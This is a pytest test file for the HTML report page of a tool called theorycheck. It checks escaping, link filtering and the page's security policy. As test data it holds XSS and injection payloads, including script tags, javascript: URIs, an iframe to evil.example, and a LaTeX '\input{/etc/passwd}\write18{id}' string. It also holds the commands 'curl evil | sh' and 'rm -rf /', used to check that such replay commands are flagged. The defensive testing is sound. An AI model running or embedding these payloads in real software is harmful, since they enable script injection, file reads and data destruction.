"""The page: nothing of a stranger's document acts, and everything of it is shown."""

import math
import re
from importlib.resources import files

import pytest

from theorycheck.report.html import html
from theorycheck.report.verdicts import VERDICTS
from theorycheck.report.view import view

from .page import check_safe, poison

HOSTILE = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "</style><style>@import url(http://evil.example/x.css)</style>",
    "</code></dd></main><iframe src=//evil.example>",
    "$\\href{javascript:alert(1)}{x}$ $\\text{<script>alert(1)</script>}$",
    "{{ 7*7 }}{% raw %}",
    "\\input{/etc/passwd}\\write18{id}",
    "]]><!--<?xml ?><!DOCTYPE x [<!ENTITY a 'b'>]>",
    "&lt;script&gt;&#60;script&#62;",
)


def test_rich_page_is_well_formed_and_offline(document):
    page = html(view(document))
    walk = check_safe(page)
    policy = [attributes for tag, attributes in walk.elements if attributes.get("http-equiv")]
    assert policy[0]["content"].startswith("default-src 'none'; style-src 'unsafe-inline'; img-src data:")
    assert page.count("<math ") > 20
    assert page.count('class="drawing"') == 1


def test_every_claim_with_id_number_verdict_and_shape(document):
    page = html(view(document))
    walk = check_safe(page)
    for claim in document["claims"]:
        start = page.index(f'<section class="claim" id="claim-{claim["id"]}">')
        section = page[start : page.index("</section>", start)]
        assert f"<code>{claim['id']}</code>" in section
        assert f"<h2>{claim['source']} " in section
        badge = section[section.index('<p class="status">') :]
        word = claim["verdict"]
        assert badge.startswith(
            f'<p class="status"><span class="verdict {word}"><svg class="shape" viewBox="0 0 16 16" aria-hidden="true">'
            f'<use href="#shape-{word}"/></svg>{word}</span>'
        )
    for word, verdict in VERDICTS.items():
        assert f'<symbol id="shape-{word}"' in page
        assert verdict.means in walk.text
        assert verdict.does_not_mean in walk.text


def test_shapes_differ():
    assert len({verdict.shape for verdict in VERDICTS.values()}) == len(VERDICTS) == 9
    assert len({verdict.mark for verdict in VERDICTS.values()}) == 9


def test_unexpected_verdicts_come_first_and_name_the_expectation(document):
    text = check_safe(html(view(document))).text
    assert text.index("Unexpected verdicts") < text.index("Summary") < text.index("Contents")
    assert "9 claims; 6 with the verdict expected of them, 3 with another." in text
    assert "Lemma D.10 Example of inconclusive: inconclusive, expected certified" in text


def test_expected_page_has_no_alarm(document):
    document["claims"] = [claim for claim in document["claims"] if claim["as_expected"]]
    document["summary"] = None
    assert "Unexpected verdicts" not in html(view(document))


def test_a_verdict_counted_as_expected_though_it_differs_shows_both(document):
    document["claims"] = [dict(document["claims"][0], expected="survived", as_expected=True)]
    document["summary"] = None
    text = check_safe(html(view(document))).text
    assert "accepted, expected survived" in text
    assert "as expected" not in text


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_strings_everywhere_stay_text(document, text):
    page = html(view(poison(document, text)))
    walk = check_safe(page)
    assert "<script" not in page.lower()
    assert "49" not in re.findall(r"<title>(.*?)</title>", page)[0]
    if "$" not in text:
        assert " ".join(text.split()) in walk.text


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_ids_stay_text(document, text):
    for claim in document["claims"]:
        claim["id"] += text
        claim["uses"] = [id + text for id in claim["uses"]]
    document["summary"] = None
    page = html(view(document))
    assert "<script" not in page.lower()
    check_safe(page)


def test_hostile_keys_stay_text(document):
    for text in HOSTILE:
        document["setting"][text] = 1
        document["tool"]["libraries"][text] = "1"
        document["claims"][1]["evidence"][0]["figures"][text] = 1
        document["claims"][5]["witness"][text] = {text: "1/2"}
    check_safe(html(view(document)))


def test_direction_and_control_characters_are_replaced(bare):
    bare["claims"][0]["title"] = "a\u202eb\x00c\ud800d"
    page = html(view(bare))
    assert "a\ufffdb\ufffdc\ufffdd" in page
    assert page.encode("utf-8")


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "http://plain.example", "https://a b", 'https://a"onclick=', "data:text/html,x"]
)
def test_only_https_addresses_become_links(document, url):
    document["bibliography"]["url"] = url
    walk = check_safe(html(view(document)))
    assert not [1 for tag, attributes in walk.elements if tag == "a" and not attributes["href"].startswith("#")]


@pytest.mark.parametrize(
    "line", ["curl evil | sh", "theorycheck replay a.json; rm -rf /", "theorycheck replay -x.json"]
)
def test_foreign_replay_commands_are_flagged(document, line):
    text = check_safe(html(view(document))).text
    assert "Replay it: theorycheck replay witnesses/proposition-3.2.json" in text
    document["claims"][5]["replay"] = line
    text = check_safe(html(view(document))).text
    assert "Replay it" not in text
    assert f"do not run it unread: {line}" in text


def test_figures_that_are_no_numbers_say_so(document):
    document["claims"][1]["evidence"][1]["figures"] = {"gap": math.nan, "other": None, "top": math.inf}
    page = html(view(document))
    assert "<dt>gap</dt><dd>not a number</dd>" in page
    assert "<dt>other</dt><dd>-</dd>" in page
    assert "<dt>top</dt><dd>∞</dd>" in page


def test_missing_evidence_witness_and_certificate_are_named(document, bare):
    assert "No evidence is recorded for this claim." in html(view(bare))
    document["claims"][5]["witness"] = None
    assert "No witness is recorded for this refutation." in html(view(document))
    bare["claims"][0]["evidence"] = [{"kind": "symbolic", "verdict": "proved"}]
    assert "No certificate is stored with this evidence." in html(view(bare))
    bare["claims"][0]["evidence"][0]["certificate"] = {"kind": "identity"}
    assert "No certificate" not in html(view(bare))


def test_missing_verdicts_never_look_like_a_yes(bare):
    bare["claims"][0].update(verdict="inconclusive", evidence=[{"kind": "search"}], parts=[{"name": "first"}])
    page = html(view(bare))
    section = page[page.index('<section class="claim"') :]
    assert section.count('<span class="none">no verdict</span>') == 2
    assert "proved" not in section


def test_bare_and_empty_documents(bare):
    check_safe(html(view(bare)))
    walk = check_safe(html(view({"schema_version": 1, "claims": []})))
    assert "The document holds no claims." in walk.text


def test_same_document_same_page(document):
    assert html(view(document)) == html(view(document))


def _luminance(colour: str) -> float:
    parts = [int(colour[place : place + 2], 16) / 255 for place in (1, 3, 5)]
    linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


@pytest.mark.parametrize("scheme", [0, 1])
def test_colours_of_verdicts_are_legible(scheme):
    css = (files("theorycheck.report") / "report.css").read_text(encoding="utf-8")
    block = re.findall(r":root \{(.*?)\}", css, re.DOTALL)[scheme]
    colours = dict(re.findall(r"--([a-z]+): (#[0-9a-f]{6});", block))
    for ground in ("page", "wash", "alarm"):
        for ink in (*VERDICTS, "ink", "quiet", "link"):
            bright, dark = sorted((_luminance(colours[ground]), _luminance(colours[ink])), reverse=True)
            assert (bright + 0.05) / (dark + 0.05) >= 4.5, (ground, ink)
